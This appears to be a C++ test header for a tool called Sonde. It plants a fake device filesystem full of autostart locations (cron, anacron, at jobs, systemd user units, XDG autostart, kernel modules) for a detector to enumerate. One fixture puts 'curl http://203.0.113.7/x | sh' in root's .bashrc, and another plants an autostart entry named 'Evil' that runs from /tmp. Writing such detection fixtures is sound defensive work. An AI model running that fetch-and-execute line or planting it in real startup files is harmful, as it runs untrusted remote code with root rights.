// SPDX-FileCopyrightText: 2026 Sonde contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include "tests/agent/plantedunits.h"

/// What starts by itself on a device, in every place there is for it.
namespace Sonde::Agent {

inline void plantCron(const DeviceTree &tree)
{
    using namespace Qt::StringLiterals;
    tree.write(
        u"/etc/crontab"_s, "SHELL=/bin/sh\n25 6 * * * root test -x /usr/sbin/anacron || run-parts /etc/cron.daily\n");
    tree.write(
        u"/etc/cron.d/sysstat"_s, "5-55/10 * * * * root /usr/lib/sysstat/debian-sa1 1 1\n@reboot daemon /opt/once\n");
    tree.write(u"/etc/cron.d/not.run"_s, "* * * * * root /opt/never\n");
    tree.script(u"/etc/cron.daily/logrotate"_s);
    tree.write(u"/etc/cron.daily/notexecutable"_s);
    tree.script(u"/etc/cron.hourly/hourly"_s);
    tree.script(u"/etc/cron.weekly/weekly"_s);
    tree.script(u"/etc/cron.monthly/monthly"_s);
    tree.write(u"/var/spool/cron/crontabs/alice"_s, "0 3 * * * /home/alice/backup.sh\n");
    tree.write(u"/var/spool/cron/bob"_s, "0 4 * * * /home/bob/backup.sh\n");
    tree.write(u"/etc/anacrontab"_s, "1 5 cron.daily run-parts /etc/cron.daily\n");
    tree.write(u"/var/spool/anacron/cron.daily"_s, "20261121\n");
    QFile job(QStringLiteral(TEST_DATA_DIR "/at-job-debian"));
    if (job.open(QIODevice::ReadOnly))
        tree.script(u"/var/spool/cron/atjobs/a0000301c9c3f1"_s, job.readAll());
}

inline void plantPeople(const DeviceTree &tree)
{
    using namespace Qt::StringLiterals;
    tree.write(u"/etc/passwd"_s, "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
    tree.folder(u"/root"_s);
    tree.folder(u"/home/bob"_s); // his account is gone
    tree.write(u"/etc/skel/.bashrc"_s, "# as it comes\n");
    tree.write(u"/home/alice/.bashrc"_s, "# as it comes\n");
    tree.write(u"/root/.bashrc"_s, "curl http://203.0.113.7/x | sh\n");
    tree.write(u"/home/alice/.config/systemd/user/agent.service"_s,
        unit("%h/.cache/agent", "[Install]\nWantedBy=default.target\n"));
    tree.link(u"/home/alice/.config/systemd/user/default.target.wants/agent.service"_s,
        "/home/alice/.config/systemd/user/agent.service");
    tree.write(u"/home/alice/.config/systemd/user/tick.timer"_s, "[Timer]\nOnUnitActiveSec=1h\n");
}

inline void plantDesktop(const DeviceTree &tree)
{
    using namespace Qt::StringLiterals;
    const auto entry = [](const QByteArray &more) {
        return "[Desktop Entry]\nName=It\nExec=/usr/bin/it --start %U\n" + more;
    };
    tree.script(u"/usr/bin/it"_s);
    tree.write(u"/etc/xdg/autostart/everybody.desktop"_s, entry("OnlyShowIn=GNOME;\n"));
    tree.write(u"/etc/xdg/autostart/hidden.desktop"_s, entry("Hidden=true\n"));
    tree.write(u"/etc/xdg/autostart/missing.desktop"_s, entry("TryExec=/usr/bin/nothere\n"));
    tree.write(u"/etc/xdg/autostart/readme.txt"_s, "hello");
    tree.write(u"/home/alice/.config/autostart/off.desktop"_s, entry("X-GNOME-Autostart-enabled=false\n"));
    tree.write(u"/home/alice/.config/autostart/everybody.desktop"_s,
        "[Desktop Entry]\nName=Evil\nExec=\"/tmp/two words\" -x\n");
    tree.script(u"/home/bob/.config/plasma-workspace/env/proxy.sh"_s);
    tree.script(u"/home/bob/.config/autostart-scripts/run.sh"_s);
}

inline void plantModules(const DeviceTree &tree)
{
    using namespace Qt::StringLiterals;
    tree.write(u"/proc/sys/kernel/osrelease"_s, "6.12.0-test\n");
    tree.write(u"/proc/modules"_s, "loaded 16384 0 - Live 0x0000000000000000\n");
    tree.write(u"/lib/modules/6.12.0-test/modules.dep"_s, "kernel/drivers/idle.ko:\n");
    tree.write(u"/lib/modules/6.12.0-test/modules.builtin"_s, "kernel/fs/within.ko\n");
    tree.write(u"/sys/module/hidden/initstate"_s, "live\n");
}

} // namespace Sonde::Agent
